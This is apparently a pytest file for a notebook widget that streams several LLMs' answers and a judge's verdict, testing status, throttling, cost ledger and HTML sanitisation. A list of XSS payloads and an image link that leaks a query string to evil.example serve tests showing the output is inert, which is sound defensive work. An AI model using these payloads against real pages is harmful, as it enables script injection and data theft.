"""The view, driven headlessly: widgets build a DummyComm outside a kernel, so the tree is inspectable.

A small scripted run stands in for the engine: it mutates real ``Response`` objects the way the pool
does and delivers real events through ``events.emit``. Time is a fake clock the test moves by hand.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator

import ipywidgets as widgets
import pytest
from html_checks import assert_inert, assert_no_script
from markdown_it import MarkdownIt

from fusion_magic.core.events import CallDelta, CallFinished, CallStarted, EngineEvent, Listener, emit
from fusion_magic.core.record import Response
from fusion_magic.fusion.events import JudgeStarted, RunFinished, RunStarted, VerdictReady
from fusion_magic.fusion.report import html_report, text_report
from fusion_magic.fusion.result import FusionResult, Verdict
from fusion_magic.fusion.view import FusionView
from fusion_magic.present.sanitize import escape_text, neutralize_markdown, render_markdown
from fusion_magic.view import Pane
from fusion_magic.view.tabs import MarkdownStream

EVIL = "<img src=x onerror=alert(1)>"
NASTY = [
    EVIL,
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![pixel](https://evil.example/leak?q=secret)",
    "![x](javascript:alert(1))",
    "**bold <b onmouseover=alert(1)>x</b>**",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<script>` |",
    "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "```\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(2)>",
    "- item\n  ```\n<img src=x onerror=alert(1)>",
    "```\nunclosed fence <b>",
    "\\`<img src=x onerror=alert(1)>`",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


def html_values(widget: widgets.Widget) -> Iterator[str]:
    """Every HTML value in a widget tree."""
    if isinstance(widget, widgets.HTML):
        yield widget.value
    for child in getattr(widget, "children", ()):
        yield from html_values(child)


def member_html(view: FusionView, label: str) -> str:
    return "".join(html_values(view.members[label].body))


class FakeClock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


class ScriptedRun:
    """What the engine does, step by step: real Response objects, real events, one listener list."""

    def __init__(self, members: list[tuple[str, str]], *, mode: str = "best-of",
                 judge: str = "anthropic:claude-sonnet-4-5") -> None:  # fmt: skip
        self.listeners: list[Listener] = []
        self.members = members
        self.mode = mode
        self.judge = judge
        self.calls: dict[tuple[str, int], Response] = {}
        self.judge_calls: list[Response] = []
        self.next_id = 1

    def send(self, event: EngineEvent) -> None:
        emit(self.listeners, event)

    def run_started(self) -> None:
        labels = tuple(label for label, _ in self.members)
        models = tuple(model for _, model in self.members)
        self.send(RunStarted("Why is the sky blue?", self.mode, self.judge, labels, models))

    def start(self, label: str, round: int = 0) -> Response:
        model = dict(self.members)[label]
        # As calls.run_call does: a started call waits for its first token, then streams.
        r = Response(model=model, label=label, round=round, call_id=self.next_id, status="waiting")
        self.next_id += 1
        self.calls[(label, round)] = r
        self.send(CallStarted(r))
        return r

    def delta(self, r: Response, text: str) -> None:
        r.text += text
        r.status = "streaming"
        self.send(CallDelta(r, text))

    def finish(self, r: Response, *, status: str = "ok", error: str | None = None, late: bool = False,
               tokens: tuple[int, int] = (12, 30), cost: float | None = 0.0001) -> None:  # fmt: skip
        r.status, r.error, r.late = status, error, late
        r.input_tokens, r.output_tokens = tokens
        r.cost_usd, r.cost_source = cost, "provider" if cost is not None else "unknown"
        r.ttft_s, r.latency_s, r.attempts = 0.2, 1.5, 1
        r.finish_reason = "stop" if status == "ok" else None
        self.send(CallFinished(r))

    def start_judge(self) -> Response:
        self.send(JudgeStarted(self.judge, self.mode))
        r = Response(model=self.judge, role="judge", call_id=self.next_id, status="waiting")
        self.next_id += 1
        self.judge_calls.append(r)
        self.send(CallStarted(r))
        return r

    def result(self, verdict: Verdict, warnings: list[str] | None = None) -> FusionResult:
        members = [r for r in self.calls.values()]
        return FusionResult(
            prompt="Why is the sky blue?", mode=self.mode, judge=self.judge,
            pool=[model for _, model in self.members], responses=members, verdict=verdict,
            answer=verdict.answer, wall_s=3.25, warnings=warnings or [], judge_responses=self.judge_calls,
        )  # fmt: skip


MEMBERS = [
    ("gpt-4o", "openrouter:openai/gpt-4o"),
    ("llama3.2", "ollama:llama3.2"),
    ("gemma3-270m #2", "local:gemma3-270m"),
    ("slowpoke", "gemini:gemini-2.5-pro"),
]
GOOD = "The sky is **blue** because of Rayleigh scattering."
VERDICT = Verdict(
    model="anthropic:claude-sonnet-4-5", mode="best-of", reasoning="Answer B is *precise*; A is unsafe.",
    answer=GOOD, choice="openrouter:openai/gpt-4o", choice_label="Answer B",
    labels={"Answer A": "ollama:llama3.2 (llama3.2)", "Answer B": "openrouter:openai/gpt-4o (gpt-4o)"},
    raw='{"reasoning": "...", "winner": "B"}',
)  # fmt: skip


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


@pytest.fixture
def run_view(clock: FakeClock) -> tuple[ScriptedRun, FusionView]:
    run = ScriptedRun(MEMBERS)
    view = FusionView(clock=clock)
    run.listeners.append(view.handle)
    return run, view


def play_full_run(run: ScriptedRun, clock: FakeClock) -> tuple[FusionResult, Response]:
    """Three members answer or fail, one is still out when the run ends; the judge decides."""
    run.run_started()
    good, evil, weak, slow = (run.start(label) for label, _ in MEMBERS)
    for word in GOOD.split(" "):
        clock.now += 0.03
        run.delta(good, word + " ")
    run.delta(evil, "Try this: ")
    run.delta(evil, EVIL + " and [click](javascript:alert(1)) <script>alert(2)</script>")
    run.delta(weak, "The sky")
    run.finish(good)
    run.finish(evil, tokens=(12, 20), cost=None)
    run.finish(weak, status="timeout", error="no answer within 30 s", tokens=(12, 2))
    judge = run.start_judge()
    run.delta(judge, '{"reasoning": "Answer B is precise", ')
    run.delta(judge, '"winner": "B", "note": "<img src=x onerror=alert(3)>"}')
    run.finish(judge, tokens=(400, 40), cost=0.002)
    run.send(VerdictReady(VERDICT))
    result = run.result(VERDICT, warnings=["judge is also in the pool: no (different family)"])
    run.send(RunFinished(result))
    return result, slow


def test_titles_follow_the_pool_in_order(run_view: tuple[ScriptedRun, FusionView]) -> None:
    run, view = run_view
    assert view.titles == ("Overview", "Fused", "Judge", "Cost & latency")
    run.run_started()
    labels = tuple(label for label, _ in MEMBERS)
    assert view.titles == ("Overview", "Fused", "Judge", *labels, "Cost & latency")
    assert view.tab.titles == view.titles
    assert len(view.tab.children) == len(view.titles)
    assert view.tab.selected_index == 0
    assert isinstance(view.widget, widgets.VBox)
    assert view.widget.children[1] is view.tab


def test_tabs_inserted_before_the_ledger_get_a_fresh_tab_widget(run_view: tuple[ScriptedRun, FusionView]) -> None:
    """A browser that drew Fused/Judge/Cost & latency must never see titles re-applied by position while
    the moved ledger tab is still there (Chromium showed 'slow1' lost and an empty last title)."""
    run, view = run_view
    first = view.tab
    run.run_started()
    assert view.tab is not first and first.comm is None  # replaced and closed, not mutated in place
    assert view.widget.children == (view.status, view.tab)
    assert tuple(view.tab.titles) == view.titles and len(view.tab.children) == len(view.titles)
    second = view.tab
    view.add_pane(Pane("Notes", widgets.HTML("n")))  # inserted before the ledger: fresh again
    assert view.tab is not second and view.titles[-2:] == ("Notes", "Cost & latency")


def test_member_status_moves_queued_streaming_done_failed_late(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    run.run_started()
    pane = view.members["gpt-4o"]
    assert pane.status == "queued"
    assert "queued" in pane.header.value

    r = run.start("gpt-4o")
    assert pane.status == "waiting for the first token"
    assert "waiting for the first token" in pane.header.value and "failed" not in pane.header.value
    run.delta(r, "Hello")
    assert pane.status == "streaming"
    assert "streaming" in pane.header.value
    run.finish(r)
    assert pane.status == "done"
    assert "done" in pane.header.value and "12→30 tok" in pane.header.value
    assert "1.50 s" in pane.header.value and "$0.000100" in pane.header.value

    weak = view.members["gemma3-270m #2"]
    w = run.start("gemma3-270m #2")
    run.finish(w, status="timeout", error="no answer within 30 s")
    assert weak.status == "failed: timeout: no answer within 30 s"
    assert "failed: timeout: no answer within 30 s" in weak.header.value

    late = view.members["slowpoke"]
    s = run.start("slowpoke")
    run.finish(s, late=True)
    assert late.status == "late, done"
    assert "late, done" in late.header.value


def test_while_members_wait_for_their_first_token_nothing_reads_failed(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    run.run_started()
    calls = [run.start(label) for label, _ in MEMBERS]
    for pane in view.members.values():
        body = "".join(w.value for w in pane.body.children if isinstance(w, widgets.HTML))
        assert pane.status == "waiting for the first token" and pane.running
        assert "failed" not in body and "(no text)" not in body and "? s" not in body and "cost ?" not in body
    assert "0/4 answers in" in view.status.value and "judge waiting" in view.status.value
    # The first token of one member: the status line says so at once, not at the next non-delta event.
    run.delta(calls[0], "The")
    assert "0/4 answers in, 1 streaming" in view.status.value
    run.finish(calls[0])
    assert "1/4 answers in" in view.status.value and "streaming" not in view.status.value
    judge = run.start_judge()
    assert "waiting for the first token" in view.judge.body.children[2].value
    assert "failed" not in view.judge.body.children[2].value
    run.delta(judge, "{")
    assert "streaming" in view.judge.body.children[2].value


def test_a_cancelled_call_reads_cancelled(run_view: tuple[ScriptedRun, FusionView]) -> None:
    run, view = run_view
    run.run_started()
    r = run.start("gpt-4o")
    run.finish(r, status="cancelled", error="openrouter:openai/gpt-4o: cancelled: cancelled")
    assert view.members["gpt-4o"].status == "cancelled"
    assert "cancelled: cancelled" not in view.members["gpt-4o"].header.value


def test_streamed_text_is_shown_live_and_throttled(run_view: tuple[ScriptedRun, FusionView], clock: FakeClock) -> None:
    run, view = run_view
    run.run_started()
    pane = view.members["gpt-4o"]
    r = run.start("gpt-4o")

    run.delta(r, "first ")  # the first delta always renders
    assert "first" in member_html(view, "gpt-4o")
    for i in range(200):  # a burst within one interval: no re-render
        run.delta(r, f"w{i} ")
    assert "w199" not in member_html(view, "gpt-4o")
    clock.now += 0.11
    run.delta(r, "after ")  # the interval passed: everything so far shows at once
    assert "w199" in member_html(view, "gpt-4o") and "after" in member_html(view, "gpt-4o")
    run.delta(r, "tail")  # throttled again...
    assert "tail" not in member_html(view, "gpt-4o")
    run.finish(r)  # ...but the final render never is
    assert member_html(view, "gpt-4o").endswith("tail</p>\n")
    assert pane.text == r.text


def test_long_answers_stream_in_frozen_chunks(run_view: tuple[ScriptedRun, FusionView], clock: FakeClock) -> None:
    run, view = run_view
    run.run_started()
    r = run.start("gpt-4o")
    section = next(iter(view.members["gpt-4o"].sections.values()))
    assert section.stream is not None
    paragraph = "Rayleigh scattering goes as the inverse fourth power of wavelength. " * 3
    sent: list[int] = []  # bytes each widget update would put on the comm
    for i in range(300):
        clock.now += 0.2  # every delta renders
        run.delta(r, f"{paragraph}{i}\n\n")
        sent.append(len(section.stream.tail.value))
    # Each update re-sends only the live tail, never the whole answer (which is ~60 kB by now).
    assert max(sent) < 3000 < len(r.text) // 20
    assert len(section.stream.body.children) > 20
    assert "299" in section.stream.html
    run.finish(r)  # the final render is one exact piece
    assert section.stream.body.children == (section.stream.tail,)
    assert section.stream.tail.value == render_markdown(r.text)


def test_markdown_stream_keeps_fences_whole_and_restarts_on_a_rewritten_text() -> None:
    stream = MarkdownStream(chunk_chars=50)
    code = "```python\n" + "x = 1\n\n" * 20 + "```\n\nafter the code\n\nmore text here\n"
    stream.show(code)
    frozen = [w.value for w in stream.body.children[:-1]]
    assert len(frozen) == 1 and frozen[0].startswith("<pre><code>")  # no split inside the fence
    stream.show("a retried call starts over")
    assert stream.body.children == (stream.tail,)
    assert stream.html == "<p>a retried call starts over</p>\n"


def test_throttled_text_shows_at_the_next_non_delta_event(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    run.run_started()
    a = run.start("gpt-4o")
    run.delta(a, "one ")
    run.delta(a, "two")  # held back by the throttle
    assert "two" not in member_html(view, "gpt-4o")
    run.start("llama3.2")  # any other event flushes pending text
    assert "one two" in member_html(view, "gpt-4o")


def test_judge_tab_streams_raw_text_then_shows_the_verdict(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    play_full_run(run, clock)
    judge = view.judge
    html = "".join(html_values(judge.body))
    assert "anthropic:claude-sonnet-4-5" in html
    assert "best-of" in html and "decided" in html
    assert "&quot;winner&quot;: &quot;B&quot;" in html  # the raw stream, escaped
    assert "Answer B = openrouter:openai/gpt-4o" in html  # the choice
    assert "<td>Answer A</td><td><code>ollama:llama3.2 (llama3.2)</code></td>" in html  # label map
    assert "<em>precise</em>" in html  # reasoning rendered as Markdown
    assert judge.raw.startswith('{"reasoning"')


def test_judge_tab_while_the_judge_streams(run_view: tuple[ScriptedRun, FusionView]) -> None:
    run, view = run_view
    run.run_started()
    assert view.judge.state == "waiting"
    j = run.start_judge()
    assert view.judge.state == "judging"
    run.delta(j, '{"reasoning": "x < y"')
    assert '<pre style="white-space:pre-wrap">{&quot;reasoning&quot;: &quot;x &lt; y&quot;</pre>' in "".join(
        html_values(view.judge.body)
    )
    assert "judge judging" in view.text()


def test_fused_tab_waits_for_the_judge_then_shows_the_answer(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    run.run_started()
    assert view.fused.html.value == view.fused.PLACEHOLDER
    assert "waiting for the judge…" in view.fused.html.value
    play_full_run(run, clock)
    assert "<strong>blue</strong>" in view.fused.html.value
    assert "Rayleigh scattering" in view.fused.html.value
    assert view.fused.answer == GOOD


def test_ledger_refreshes_per_call_and_has_totals(run_view: tuple[ScriptedRun, FusionView], clock: FakeClock) -> None:
    run, view = run_view
    run.run_started()
    assert view.ledger is None
    a = run.start("gpt-4o")
    run.finish(a)
    frame = view.ledger
    assert frame is not None
    assert list(frame["model"]) == ["openrouter:openai/gpt-4o", "TOTAL"]

    run.start("llama3.2")  # a started call is listed at the next refresh, as still waiting
    b = run.start("gemma3-270m #2")
    run.finish(b, status="timeout", error="no answer within 30 s")
    frame = view.ledger
    assert list(frame["status"]) == ["ok", "waiting", "timeout", "1 ok"]
    assert "no answer within 30 s" in view.ledger_pane.html.value


def test_full_run_final_state(run_view: tuple[ScriptedRun, FusionView], clock: FakeClock) -> None:
    run, view = run_view
    result, _ = play_full_run(run, clock)
    frame = view.ledger
    assert frame is not None
    # Four member calls (one still out) and the judge, plus the totals and overhead rows.
    assert len(frame) == 7
    totals = frame.iloc[-2]
    assert totals["model"] == "TOTAL"
    assert totals["input_tokens"] == 12 * 3 + 400
    assert totals["latency_s"] == pytest.approx(3.25)  # the run's wall time
    assert totals["cost_usd"] is not None and str(totals["cost_usd"]) == "<NA>"  # one price unknown
    assert view.members["slowpoke"].status == "waiting for the first token"  # still out, no token yet
    assert "done in 3.25 s" in view.status.value and "DEGRADED" in view.status.value
    assert view.text() == text_report(result)


def test_a_late_member_after_run_finished_still_updates(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    _, slow = play_full_run(run, clock)
    run.delta(slow, "Late but thorough.")
    run.finish(slow, late=True)
    pane = view.members["slowpoke"]
    assert pane.status == "late, done"
    assert "Late but thorough." in member_html(view, "slowpoke")
    assert view.ledger is not None
    assert list(view.ledger["late"]) == [False, False, False, True, False, True, False]
    assert "late, done" in view.text()


def test_every_widget_value_is_inert(run_view: tuple[ScriptedRun, FusionView], clock: FakeClock) -> None:
    run, view = run_view
    play_full_run(run, clock)
    values = list(html_values(view.widget))
    assert values
    for value in values:
        assert_inert(value)
    evil = "".join(html_values(view.members["llama3.2"].body))
    assert escape_text(EVIL) in evil  # shown as text the reader can see
    assert "javascript:" not in evil.replace("[click](javascript:alert(1))", "")
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in evil
    assert "onerror=alert(3)&gt;" in "".join(html_values(view.judge.body))


def test_model_labels_and_errors_are_escaped_too(clock: FakeClock) -> None:
    run = ScriptedRun([("<b onclick=x>", "openai:<img src=x onerror=alert(1)>")])
    view = FusionView(clock=clock)
    run.listeners.append(view.handle)
    run.run_started()
    r = run.start("<b onclick=x>")
    run.finish(r, status="server", error="<img src=x onerror=alert(9)> 503")
    assert view.titles[3] == "<b onclick=x>"  # a tab title is text, not HTML
    for value in html_values(view.widget):
        assert_inert(value)


def test_mimebundle_text_is_the_report_without_widget_noise(
    run_view: tuple[ScriptedRun, FusionView], clock: FakeClock
) -> None:
    run, view = run_view
    before = view._repr_mimebundle_()
    assert before["text/plain"] == "fusion_magic: waiting for the run to start"
    assert before["application/vnd.jupyter.widget-view+json"]["model_id"] == view.widget.model_id

    run.run_started()
    a = run.start("gpt-4o")
    run.finish(a)
    progress = view._repr_mimebundle_()["text/plain"]
    assert progress == ("fusion_magic: best-of, judge anthropic:claude-sonnet-4-5: 1/4 answers in, judge waiting")

    run2 = ScriptedRun(MEMBERS)
    view2 = FusionView(clock=clock)
    run2.listeners.append(view2.handle)
    result, _ = play_full_run(run2, clock)
    bundle = view2._repr_mimebundle_()
    text = bundle["text/plain"]
    assert text == text_report(result)
    for noise in ("VBox(", "HTML(", "Tab(", "children=", "layout=", "model_id"):
        assert noise not in text
    # Finished: static HTML and text only, so a saved notebook never needs the kernel's widget models.
    assert set(bundle) == {"text/plain", "text/html"}
    assert bundle["text/html"] == html_report(result)
    assert "Rayleigh" in bundle["text/html"] and "TOTAL" in bundle["text/html"]
    assert_inert(bundle["text/html"])


def test_display_updates_the_saved_output_with_the_final_report(clock: FakeClock) -> None:
    from IPython.core.displaypub import CapturingDisplayPublisher
    from IPython.core.interactiveshell import InteractiveShell

    shell = InteractiveShell.instance()
    saved = shell.display_pub
    shell.display_pub = CapturingDisplayPublisher()
    try:
        run = ScriptedRun(MEMBERS)
        view = FusionView(clock=clock)
        run.listeners.append(view.handle)
        handle = view.display()
        assert handle is not None
        result, _ = play_full_run(run, clock)
        outputs = shell.display_pub.outputs
    finally:
        shell.display_pub = saved
    first, last = outputs[0], outputs[-1]
    assert first["data"]["text/plain"] == "fusion_magic: waiting for the run to start"
    assert not first["update"]
    assert last["update"]
    assert last["data"]["text/plain"] == text_report(result)
    assert "application/vnd.jupyter.widget-view+json" in first["data"]
    assert "application/vnd.jupyter.widget-view+json" not in last["data"]
    assert last["data"]["text/html"] == html_report(result)
    assert last["transient"]["display_id"] == first["transient"]["display_id"] == handle.display_id


def test_view_without_display_never_publishes(run_view: tuple[ScriptedRun, FusionView], clock: FakeClock) -> None:
    run, view = run_view
    play_full_run(run, clock)  # no display() call: RunFinished must not try to update anything
    assert view.finished


def test_debate_rounds_stack_in_the_member_tab(clock: FakeClock) -> None:
    run = ScriptedRun(MEMBERS[:2], mode="debate")
    view = FusionView(clock=clock)
    run.listeners.append(view.handle)
    run.run_started()
    first = run.start("gpt-4o", round=0)
    run.delta(first, "Blue, I think.")
    run.finish(first)
    pane = view.members["gpt-4o"]
    assert "Round" not in "".join(html_values(pane.body))
    second = run.start("gpt-4o", round=1)
    run.delta(second, "Blue, because of Rayleigh scattering.")
    run.finish(second)
    html = "".join(html_values(pane.body))
    assert html.index("<h4>Round 0</h4>") < html.index("Blue, I think.")
    assert html.index("Blue, I think.") < html.index("<h4>Round 1</h4>")
    assert html.index("<h4>Round 1</h4>") < html.index("Rayleigh")
    assert view.titles.count("gpt-4o") == 1
    assert pane.text == "Blue, because of Rayleigh scattering."


def test_an_unannounced_member_gets_its_own_tab(run_view: tuple[ScriptedRun, FusionView]) -> None:
    run, view = run_view
    run.run_started()
    stranger = Response(model="openai:o3", label="o3", call_id=99, status="streaming")
    run.send(CallStarted(stranger))
    assert view.titles[-2:] == ("o3", "Cost & latency")


def test_another_kind_of_tab_and_ledger_row(run_view: tuple[ScriptedRun, FusionView]) -> None:
    run, view = run_view
    run.run_started()
    clip = Pane("clip 1", widgets.Video(value=b"\x00\x00", format="mp4", autoplay=False, loop=False))
    view.add_pane(clip)
    assert view.titles[-2:] == ("clip 1", "Cost & latency")
    job = Response(model="gemini:veo-3.0-fast", role="video", call_id=50, status="ok", cost_usd=0.4)
    run.send(CallStarted(job))
    run.send(CallFinished(job))
    assert view.ledger is not None
    assert list(view.ledger["role"])[:1] == ["video"]
    assert "gemini:veo-3.0-fast" not in view.titles


def test_events_from_a_background_thread(clock: FakeClock) -> None:
    run = ScriptedRun(MEMBERS)
    view = FusionView(clock=clock)
    run.listeners.append(view.handle)
    box: list[FusionResult] = []
    worker = threading.Thread(target=lambda: box.append(play_full_run(run, clock)[0]))
    worker.start()
    view.text()  # reading while events land must not fail
    worker.join(timeout=30)
    assert box and view.text() == text_report(box[0])
    assert GOOD.split(" ")[-1] in member_html(view, "gpt-4o")


def test_of_result_replays_a_finished_run(clock: FakeClock) -> None:
    result, _ = play_full_run(ScriptedRun(MEMBERS), clock)
    view = FusionView.of(result)
    assert view.titles == ("Overview", "Fused", "Judge", "gpt-4o", "llama3.2", "gemma3-270m #2", "slowpoke",
                           "Cost & latency")
    assert view.members["gemma3-270m #2"].status.startswith("failed: timeout")
    assert "<strong>blue</strong>" in view.fused.html.value
    assert view.text() == text_report(result)


# --- sanitize ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", NASTY)
def test_render_markdown_is_inert(text: str) -> None:
    assert_inert(render_markdown(text))


@pytest.mark.parametrize("text", NASTY)
def test_neutralized_markdown_is_inert_even_for_a_renderer_that_allows_html(text: str) -> None:
    permissive = MarkdownIt("commonmark", {"html": True}).enable("table")
    permissive.validateLink = lambda url: True  # type: ignore[method-assign]  # trusts every link, like raw marked
    assert_no_script(permissive.render(neutralize_markdown(text)), allow={"img"})


def test_render_markdown_keeps_ordinary_markdown() -> None:
    html = render_markdown(
        "# Title\n\n**bold** and `x < y`\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n[site](https://example.org)"
    )
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html
    assert "<code>x &lt; y</code>" in html
    assert '<td style="text-align:right">1</td>' in html
    assert '<a href="https://example.org" rel="noopener noreferrer">site</a>' in html


def test_images_become_links_not_requests() -> None:
    html = render_markdown("![pixel](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert '<a href="https://evil.example/leak?q=secret" rel="noopener noreferrer">[image: pixel]</a>' in html


def test_neutralize_markdown_keeps_fenced_code_and_closes_open_fences() -> None:
    assert neutralize_markdown("```html\n<b>x</b>\n```\n<b>y</b>") == "```html\n<b>x</b>\n```\n&lt;b>y&lt;/b>"
    assert neutralize_markdown("```\nopen <b>") == "```\nopen <b>\n```"
    assert neutralize_markdown("AT&T <3") == "AT&amp;T &lt;3"


def test_escape_text() -> None:
    assert escape_text('<a href="x">&</a>') == "&lt;a href=&quot;x&quot;&gt;&amp;&lt;/a&gt;"
    assert escape_text(None) == ""
